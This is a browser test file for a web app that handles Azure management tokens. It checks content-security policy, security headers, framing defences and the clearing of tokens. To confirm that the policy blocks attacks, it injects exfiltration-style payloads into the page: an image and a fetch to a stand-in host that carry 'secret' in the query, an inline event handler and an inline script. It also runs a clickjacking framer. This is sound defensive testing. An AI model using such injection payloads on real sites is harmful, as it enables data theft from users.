// The pages' defences, as a browser enforces them: each page's Content-Security-Policy is in
// force before any script and refuses what an injection would need (an image or a fetch to
// another host, an inline script or handler); the site's response headers are the ones it ships
// for static hosts; the apply page in another site's frame takes no token (the code's defence,
// for hosts that cannot send the framing headers); and a pasted token is forgotten on pagehide.
// Every other spec checks that the app itself never meets its policy (support/app.mjs).
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { test as appTest, assert, eventually, goStep, gotoApp, shot } from '../support/app.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const PROBE = 'http://probe.invalid';
const FRAMER = 'http://framer.invalid';

const b64 = (text) => Buffer.from(text).toString('base64url');
const jwt = (claims) => `${b64('{"alg":"RS256","typ":"JWT"}')}.${b64(JSON.stringify(claims))}.c2lnbmF0dXJl`;
const TOKEN = jwt({ aud: 'https://management.azure.com/', exp: Math.floor(Date.now() / 1000) + 3600, tid: '72f988bf-0000-4000-8000-000000000001', upn: 'ops@contoso.example' });

const test = appTest.extend({
  extraOrigins: [[PROBE, FRAMER], { option: true }],
  expectViolations: [true, { option: true }],
  // Chromium's own lines about what the policy or the framing headers refused.
  allowConsole: [[/Content Security Policy/, /Refused to/, /X-Frame-Options/, /frame-ancestors/], { option: true }],
});

const PAGES = [
  { name: 'wizard', path: '/', connect: "connect-src 'self';" },
  { name: 'apply page', path: '/apply/', connect: "connect-src 'self' https://management.azure.com https://management.usgovcloudapi.net https://management.chinacloudapi.cn" },
];

for (const { name, path: where, connect } of PAGES) {
  test(`the ${name}'s policy is in force before any script and refuses an injection`, async ({ page, cspViolations }) => {
    await gotoApp(page, where);
    const head = await page.evaluate(() => [...document.head.children].slice(0, 2).map((e) => e.outerHTML));
    assert(/^<meta charset/i.test(head[0]) && /http-equiv="?Content-Security-Policy/i.test(head[1]), `the policy comes right after <meta charset>: ${head.join(' ')}`);
    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
    for (const part of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-", "style-src 'sha256-", 'img-src data:', connect, "base-uri 'none'", "form-action 'none'"]) {
      assert(policy.includes(part), `${name}'s policy has ${part}: ${policy}`);
    }
    assert(!policy.includes('inline-') && !policy.includes('unsafe-inline'), `no placeholder and no 'unsafe-inline': ${policy}`);
    assert(cspViolations.length === 0, `the app itself raised violations: ${JSON.stringify(cspViolations)}`);

    await page.evaluate((probe) => {
      const img = document.createElement('img');
      img.src = `${probe}/leak.png?t=secret`;
      document.body.append(img);
      const handler = document.createElement('div');
      handler.innerHTML = '<img src="data:," onload="window.__handlerRan = true">';
      document.body.append(handler);
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      fetch(`${probe}/leak?t=secret`).catch(() => {});
    }, PROBE);
    await eventually(() => {
      const directives = cspViolations.map((v) => v.directive);
      for (const d of ['img-src', 'connect-src', 'script-src-attr', 'script-src-elem']) {
        assert(directives.includes(d), `a ${d} violation was raised: ${JSON.stringify(cspViolations)}`);
      }
    });
    const ran = await page.evaluate(() => [window.__handlerRan, window.__inlineRan]);
    assert(!ran[0] && !ran[1], `an injected handler or script ran: ${ran}`);
    assert(cspViolations.filter((v) => v.directive === 'img-src' || v.directive === 'connect-src').every((v) => v.blocked.startsWith(PROBE)), `only the probes were refused: ${JSON.stringify(cspViolations)}`);
  });
}

test('the site sends the headers it ships for static hosts, and the three copies agree', async ({ page, baseURL }) => {
  const common = {
    'content-security-policy': "frame-ancestors 'none'",
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': 'same-origin',
  };
  for (const where of ['', 'apply/', 'robots.txt']) {
    const response = await page.request.get(new URL(where, baseURL).href);
    const headers = response.headers();
    for (const [header, value] of Object.entries(common)) {
      assert(headers[header] === value, `${where || '/'}: ${header} is ${headers[header]}, not ${value}`);
    }
    const noStore = headers['cache-control'] === 'no-store';
    assert(noStore === (where === 'apply/'), `${where || '/'}: Cache-Control ${headers['cache-control']} (no-store on the apply page only)`);
  }
  // Azure Static Web Apps' file and the nginx snippet say the same.
  const swa = await (await page.request.get(new URL('staticwebapp.config.json', baseURL).href)).json();
  for (const [header, value] of Object.entries(common)) {
    const key = Object.keys(swa.globalHeaders).find((k) => k.toLowerCase() === header);
    assert(swa.globalHeaders[key] === value, `staticwebapp.config.json: ${header} is ${swa.globalHeaders[key]}`);
  }
  assert(swa.routes.some((r) => r.route === '/apply/*' && r.headers['Cache-Control'] === 'no-store'), 'staticwebapp.config.json: no-store on the apply page');
  const nginx = readFileSync(path.resolve(here, '..', '..', '..', 'docs', 'hosting.md'), 'utf8');
  for (const [header, value] of Object.entries(common)) {
    assert(nginx.toLowerCase().includes(`add_header ${header} "${value.toLowerCase()}" always;`), `docs/hosting.md's nginx snippet sets ${header}: ${value}`);
  }
  assert(/location \/apply\/ \{[^}]*add_header cache-control "no-store" always;/i.test(nginx), 'docs/hosting.md: no-store on the apply page');
});

test('the apply page inside another site takes no token and sends nothing, with or without the headers', async ({ page, baseURL }) => {
  const sent = [];
  page.on('request', (r) => { if (!r.url().startsWith(new URL(baseURL).origin) && !r.url().startsWith(FRAMER)) sent.push(r.url()); });
  await page.route(`${FRAMER}/**`, (route) => route.fulfill({
    contentType: 'text/html',
    body: `<!doctype html><title>framer</title><iframe id="victim" title="apply" src="${new URL('apply/?step=review', baseURL).href}" width="1000" height="800"></iframe>`,
  }));
  // With the headers the site ships, the browser refuses to show it at all.
  await page.goto(`${FRAMER}/with-headers`);
  await page.waitForTimeout(1500);
  const blocked = page.frames().find((f) => f.url().includes('/apply/'));
  assert(!blocked || (await blocked.locator('#arm-token').count()) === 0, 'the framed page shows a token field despite the headers');

  // A host that cannot send headers (GitHub Pages): the app's own defence.
  await page.route(`${new URL('apply/', baseURL).href}**`, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers['x-frame-options'];
    delete headers['content-security-policy'];
    await route.fulfill({ response, headers });
  });
  await page.goto(`${FRAMER}/no-headers`);
  const frame = page.frameLocator('#victim');
  await frame.locator('#arm-framed').waitFor({ state: 'visible', timeout: 30_000 });
  assert((await frame.locator('#arm-token').count()) === 0, 'no token field in a frame');
  assert((await frame.locator('#arm-apply, #arm-load').count()) === 0, 'no Apply or Load in a frame');
  await frame.locator('#arm-framed').scrollIntoViewIfNeeded();
  await page.screenshot({ path: shot('apply-framed.png') });
  assert(sent.length === 0, `the framed page sent requests elsewhere: ${sent.join(', ')}`);
});

test('a pasted token is forgotten on pagehide, and after Back', async ({ page }) => {
  await gotoApp(page, '/apply/');
  await goStep(page, 'review');
  await page.locator('#arm-token').fill(TOKEN);
  await page.locator('#arm-token-info').waitFor({ state: 'visible' });
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
  await eventually(async () => {
    assert((await page.locator('#arm-token').inputValue()) === '', 'the token field is empty');
    assert((await page.locator('#arm-token-info').count()) === 0, 'what the token said is gone');
    assert((await page.locator('#arm-token-message').textContent()).includes('forgotten'), 'the page says why');
  });
  // A real departure and Back: nothing of the token comes back.
  await page.locator('#arm-token').fill(TOKEN);
  await page.locator('#arm-token-info').waitFor({ state: 'visible' });
  await page.goto('/robots.txt');
  await page.goBack({ waitUntil: 'load' });
  await page.locator('#arm-token').waitFor({ state: 'visible', timeout: 30_000 });
  assert((await page.locator('#arm-token').inputValue()) === '', 'the token is back after Back');
  assert((await page.locator('#arm-token-info').count()) === 0, 'what the token said is back after Back');
});
